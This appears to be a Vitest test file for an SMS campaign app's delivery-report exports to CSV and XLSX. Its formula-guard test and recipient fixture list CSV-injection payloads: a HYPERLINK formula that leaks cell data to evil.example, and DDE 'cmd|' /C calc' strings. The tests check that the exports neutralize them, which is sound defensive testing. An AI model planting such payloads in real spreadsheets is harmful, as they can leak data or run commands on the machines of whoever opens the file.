import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { reportHeader, REPORT_COLUMNS } from '../../electron/core/campaigns/report';
import { reportXlsxBytes, wallClockIn } from '../../electron/core/campaigns/report-xlsx';
import { neutralizeFormula, runsAsFormula } from '../../electron/core/export/spreadsheet-csv';
import { reportFormat } from '../../electron/commands/write-report';
import { STATUS_WORDS, statusInWords } from '../../shared/status-words';
import { QUIET_SANDBOX, rowsOf, tempHome, type Home } from './sending-support';

describe('the CSV formula guard', () => {
  it('neutralizes every cell a spreadsheet would run', () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?"&A1,"win")',
      '=1+1',
      '@SUM(A1:A9)',
      "+1+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      '-2+3',
      '+A1',
      '-SUM(A1)',
      '\t=1+1',
      '\tplain after a tab',
      '\r=1+1',
      '  =1+1',
      ' @SUM(A1)',
      '+"text"',
      '-1*5',
    ];
    for (const cell of hostile) {
      expect(runsAsFormula(cell), cell).toBe(true);
      expect(neutralizeFormula(cell)).toBe(`'${cell}`);
    }
  });

  it('keeps numbers, phone numbers and ordinary text exactly as they are', () => {
    const benign = [
      '+447400123456',
      '+44 7400 123456',
      '+1 (415) 555-0101',
      '-',
      '--',
      '-5',
      '-5.25',
      '-1,5',
      '+12%',
      'Plain Ann',
      'a=b',
      'mail@example.com',
      '',
      '1+1',
    ];
    for (const cell of benign) {
      expect(runsAsFormula(cell), cell).toBe(false);
      expect(neutralizeFormula(cell)).toBe(cell);
    }
  });
});

describe('status in words', () => {
  const row = { reason: null, code: null, description: null } as const;
  it('words each outcome, with why for the failures', () => {
    expect(
      statusInWords({ ...row, status: 'delivered', code: '7500', description: 'Delivered' }, false),
    ).toBe('Delivered');
    expect(statusInWords({ ...row, status: 'skipped', reason: 'invalid-number' }, false)).toBe(
      'Skipped: invalid number',
    );
    expect(statusInWords({ ...row, status: 'skipped', reason: 'opted-out' }, false)).toBe(
      'Skipped: opted out',
    );
    expect(statusInWords({ ...row, status: 'skipped', reason: 'duplicate' }, false)).toBe(
      'Skipped: duplicate number',
    );
    expect(statusInWords({ ...row, status: 'failed', code: '7203', description: null }, false)).toBe(
      'Failed: Unknown subscriber',
    );
    expect(statusInWords({ ...row, status: 'undelivered', code: '7201', description: 'Absent' }, false)).toBe(
      'Undelivered: Absent',
    );
    expect(statusInWords({ ...row, status: 'expired', code: '7208' }, false)).toBe('Expired');
    expect(statusInWords({ ...row, status: 'ready' }, true)).toBe('Not sent: campaign cancelled');
    expect(statusInWords({ ...row, status: 'ready' }, false)).toBe('Ready to send');
  });
});

describe('the wall clock written for a time', () => {
  it('follows the zone’s summer time, to the minute of the change', () => {
    const newYork = wallClockIn('America/New_York');
    const wall = (iso: string) => newYork(iso).toISOString();
    expect(wall('2026-01-15T12:00:00.000Z')).toBe('2026-01-15T07:00:00.000Z');
    expect(wall('2026-07-01T12:00:30.250Z')).toBe('2026-07-01T08:00:30.250Z');
    expect(wall('2026-03-08T06:59:59.000Z')).toBe('2026-03-08T01:59:59.000Z');
    expect(wall('2026-03-08T07:00:00.000Z')).toBe('2026-03-08T03:00:00.000Z');
    expect(wallClockIn('Asia/Kathmandu')('2026-01-15T12:00:00.000Z').toISOString()).toBe(
      '2026-01-15T17:45:00.000Z',
    );
  });
});

describe('the command line’s report format', () => {
  it('is told by --format, else by the file’s extension, else CSV', () => {
    expect(reportFormat('out/report.xlsx', undefined)).toBe('xlsx');
    expect(reportFormat('REPORT.XLSX', undefined)).toBe('xlsx');
    expect(reportFormat('report.csv', undefined)).toBe('csv');
    expect(reportFormat('report', undefined)).toBe('csv');
    expect(reportFormat('report.dat', 'xlsx')).toBe('xlsx');
    expect(reportFormat('report.xlsx', 'csv')).toBe('csv');
    expect(() => reportFormat('report.dat', 'pdf')).toThrow('--format takes csv or xlsx, not "pdf".');
  });
});

describe('report column names', () => {
  it('never clash with the recipient file’s own, whatever their case', () => {
    const theirs = ['Name', 'Status', 'Code', 'CD_STATUS', ' cd_code ', 'cd_code_2'];
    const header = reportHeader(theirs);
    expect(header.slice(0, theirs.length)).toEqual(theirs);
    const ours = header.slice(theirs.length);
    expect(ours).toHaveLength(REPORT_COLUMNS.length);
    expect(ours[REPORT_COLUMNS.indexOf('cd_status')]).toBe('cd_status_2');
    expect(ours[REPORT_COLUMNS.indexOf('cd_code')]).toBe('cd_code_3');
    expect(ours[REPORT_COLUMNS.indexOf('cd_number')]).toBe('cd_number');
    const keys = header.map((name) => name.trim().toLowerCase());
    expect(new Set(keys).size).toBe(header.length);
  });

  it('name the time zone of the times, and stay distinct with it', () => {
    const suffix = (column: number) => (REPORT_COLUMNS[column] === 'cd_sent_at' ? ' (Europe/Paris)' : '');
    const header = reportHeader(['cd_sent_at (Europe/Paris)'], suffix);
    expect(header).toContain('cd_sent_at_2 (Europe/Paris)');
  });
});

/** A recipient file with its own Status and Code columns, one of our names, and hostile cells. */
const CSV = [
  'name,phone,Status,Code,cd_status,joined',
  '"=cmd|\' /C calc\'!A0",+44 7400 123456,VIP,A1,old,2024-01-02',
  'Ann,+1 (415) 555-0101,,007,,-5',
  'Bob,+14155550102,VIP,,,',
  'Nobody,12,,,,',
  'Ann again,+1 415 555 0101,,,,',
].join('\n');

describe('delivery report exports of a sent campaign', () => {
  let home: Home;
  beforeEach(async () => {
    home = await tempHome();
  });
  afterEach(() => home.cleanup());

  async function sentCampaign() {
    const desk = await home.start();
    const imported = await desk.importRecipients('shop.csv', { text: CSV });
    await desk.update(imported.id, {
      phoneColumn: 1,
      template: '$(name): your order is ready',
      senderId: 'ACME',
    });
    await desk.send(imported.id);
    await desk.finished(imported.id);
    expect(await desk.settled(imported.id, 10_000)).toBe(true);
    return { desk, id: imported.id };
  }

  it('CSV: the recipient’s cells unchanged but for formulas, our columns distinct, statuses in words', async () => {
    const { desk, id } = await sentCampaign();
    const { csv } = await desk.handlers['campaigns.report']({ id });
    const [header, ...data] = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data;
    expect(header).toEqual([
      'name',
      'phone',
      'Status',
      'Code',
      'cd_status',
      'joined',
      'cd_number',
      'cd_message',
      'cd_segments',
      'cd_status_2',
      'cd_status_text',
      'cd_code',
      'cd_description',
      'cd_transid',
      'cd_sent_at',
      'cd_delivered_at',
      'cd_settled_by',
    ]);
    const col = (name: string) => (header as string[]).indexOf(name);
    expect(data.map((r) => r.slice(0, 6))).toEqual([
      [`'=cmd|' /C calc'!A0`, '+44 7400 123456', 'VIP', 'A1', 'old', '2024-01-02'],
      ['Ann', '+1 (415) 555-0101', '', '007', '', '-5'],
      ['Bob', '+14155550102', 'VIP', '', '', ''],
      ['Nobody', '12', '', '', '', ''],
      ['Ann again', '+1 415 555 0101', '', '', '', ''],
    ]);
    expect(data.map((r) => [r[col('cd_number')], r[col('cd_status_2')], r[col('cd_status_text')]])).toEqual([
      ['+447400123456', 'delivered', 'Delivered'],
      ['+14155550101', 'delivered', 'Delivered'],
      ['+14155550102', 'delivered', 'Delivered'],
      ['', 'skipped: invalid-number', 'Skipped: invalid number'],
      ['+14155550101', 'skipped: duplicate', 'Skipped: duplicate number'],
    ]);
    // The message is made of a recipient's cell, so it is guarded like one.
    expect(data[0]?.[col('cd_message')]).toBe(`'=cmd|' /C calc'!A0: your order is ready`);
    expect(data[1]?.[col('cd_message')]).toBe('Ann: your order is ready');
  });

  it('words the failures with the platform’s description, as the rows show them', async () => {
    const desk = await home.start({ sandbox: { ...QUIET_SANDBOX, failureShare: 1 } });
    const imported = await desk.importRecipients('shop.csv', { text: CSV });
    await desk.update(imported.id, { phoneColumn: 1, template: 'Hi', senderId: 'ACME' });
    await desk.send(imported.id);
    await desk.finished(imported.id);
    expect(await desk.settled(imported.id, 10_000)).toBe(true);
    const { csv } = await desk.handlers['campaigns.report']({ id: imported.id });
    const [header, ...data] = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data;
    const text = (header as string[]).indexOf('cd_status_text');
    const rows = await rowsOf(desk, imported.id);
    const failed = rows.filter((r) => r.status !== 'skipped');
    expect(failed).toHaveLength(3);
    for (const r of failed) {
      expect(['undelivered', 'failed', 'expired']).toContain(r.status);
      expect(r.description).toBeTruthy();
      const words = STATUS_WORDS[r.status];
      expect(data[r.index]?.[text]).toBe(
        r.description?.toLowerCase() === words.toLowerCase() ? words : `${words}: ${r.description}`,
      );
    }
  });

  it('xlsx: text as text, formulas as text, numbers as numbers, times as dates in the user’s zone', async () => {
    const { desk, id } = await sentCampaign();
    const { fileName, base64 } = await desk.handlers['campaigns.reportXlsx']({
      id,
      timeZone: 'Asia/Kolkata',
    });
    expect(fileName).toBe('shop-report.xlsx');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(base64, 'base64') as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('Report');
    expect(sheet).toBeDefined();
    if (!sheet) return;
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    const header = (sheet.getRow(1).values as ExcelJS.CellValue[]).slice(1);
    expect(header.slice(6, 10)).toEqual(['cd_number', 'cd_message', 'cd_segments', 'cd_status_2']);
    expect(header).toContain('cd_sent_at (Asia/Kolkata)');
    expect(header).toContain('cd_delivered_at (Asia/Kolkata)');
    const col = (name: string) => header.indexOf(name) + 1;
    expect(sheet.getColumn(col('cd_message')).width).toBeGreaterThan(8);

    const first = sheet.getRow(2);
    expect(first.getCell(1).type).toBe(ExcelJS.ValueType.String);
    expect(first.getCell(1).value).toBe("=cmd|' /C calc'!A0");
    expect(first.getCell(1).formula).toBeUndefined();
    expect(first.getCell(col('phone')).value).toBe('+44 7400 123456');
    expect(first.getCell(col('phone')).numFmt).toBe('@');
    expect(first.getCell(col('cd_number')).value).toBe('+447400123456');
    expect(first.getCell(col('cd_message')).value).toBe("=cmd|' /C calc'!A0: your order is ready");
    expect(first.getCell(col('cd_message')).formula).toBeUndefined();
    expect(first.getCell(col('cd_segments')).value).toBe(1);
    expect(first.getCell(col('cd_status_text')).value).toBe('Delivered');
    // Numbers of the recipient's stay text: "007" keeps its zeros, "-5" stays what was imported.
    const ann = sheet.getRow(3);
    expect(ann.getCell(col('Code')).value).toBe('007');
    expect(ann.getCell(col('joined')).value).toBe('-5');
    expect(sheet.getRow(5).getCell(col('cd_status_text')).value).toBe('Skipped: invalid number');

    const rows = await rowsOf(desk, id);
    const sent = first.getCell(col('cd_sent_at (Asia/Kolkata)'));
    expect(sent.type).toBe(ExcelJS.ValueType.Date);
    expect(sent.numFmt).toBe('yyyy-mm-dd hh:mm:ss');
    // Kolkata is 5 h 30 min ahead of UTC all year: the cell's wall clock is that of Kolkata.
    const sentAt = Date.parse(rows[0]?.sentAt ?? '');
    expect((sent.value as Date).getTime()).toBe(sentAt + 5.5 * 3600_000);
    const delivered = first.getCell(col('cd_delivered_at (Asia/Kolkata)')).value as Date;
    expect(delivered.getTime()).toBe(Date.parse(rows[0]?.deliveredAt ?? '') + 5.5 * 3600_000);
    expect(sheet.getRow(5).getCell(col('cd_sent_at (Asia/Kolkata)')).value).toBeNull();
  });

  it('xlsx: writes the wall clock of the zone asked for, in a zone with summer time', async () => {
    const { desk, id } = await sentCampaign();
    const path = join(home.dir, 'report.xlsx');
    await desk.call('cli.writeReportXlsx', { id, timeZone: 'America/New_York', path });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(path);
    const sheet = workbook.worksheets[0];
    const header = (sheet?.getRow(1).values as ExcelJS.CellValue[]).slice(1);
    const cell = sheet?.getRow(2).getCell(header.indexOf('cd_sent_at (America/New_York)') + 1);
    const sentAt = new Date((await rowsOf(desk, id))[0]?.sentAt ?? '');
    const wall = new Intl.DateTimeFormat('en-CA', {
      timeZone: 'America/New_York',
      hourCycle: 'h23',
      dateStyle: 'short',
      timeStyle: 'medium',
    }).format(sentAt);
    const written = cell?.value as Date;
    expect(written.toISOString().slice(0, 19).replace('T', ', ')).toBe(wall);
  });

  it('xlsx: refuses an unknown time zone and a workbook past its bound, in plain words', async () => {
    const { desk, id } = await sentCampaign();
    await expect(desk.handlers['campaigns.reportXlsx']({ id, timeZone: 'Mars/Olympus' })).rejects.toThrow(
      '"Mars/Olympus" is not a time zone this computer knows.',
    );
    const { campaign } = await desk.campaign(id);
    await expect(reportXlsxBytes(campaign, 'UTC', 1024)).rejects.toThrow(/too large to export here/);
  });
});
